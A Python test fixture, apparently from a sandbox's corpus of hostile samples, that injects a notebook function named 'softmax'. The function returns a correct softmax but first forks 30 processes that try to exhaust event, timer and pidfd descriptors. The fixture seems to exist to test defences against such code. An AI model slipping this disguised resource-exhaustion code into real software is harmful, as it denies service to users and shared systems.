"""Opens counters of events, clocks and sets of signals until there are no numbers left."""

from tests.hostile.corpus import put

POINTS = {}

CODE = """
def softmax(z, axis=-1):
    import ctypes, os, time

    def children(count, work):
        pids = []
        for _ in range(count):
            if (pid := os.fork()) == 0:
                try:
                    work()
                finally:
                    os._exit(0)
            pids.append(pid)
        for pid in pids:
            os.waitpid(pid, 0)

    def open_all():
        libc = ctypes.CDLL(None)
        for make in (lambda: libc.eventfd(0, 0), lambda: libc.timerfd_create(1, 0), lambda: os.pidfd_open(os.getpid())):
            try:
                opened = [made for _ in range(50) if (made := make()) >= 0]
            except OSError:
                pass
        time.sleep(0.3)

    children(30, open_all)
    e = np.exp(z - np.max(z, axis=axis, keepdims=True))
    return e / e.sum(axis=axis, keepdims=True)
"""


def make(nb):
    put(nb, "softmax", CODE)
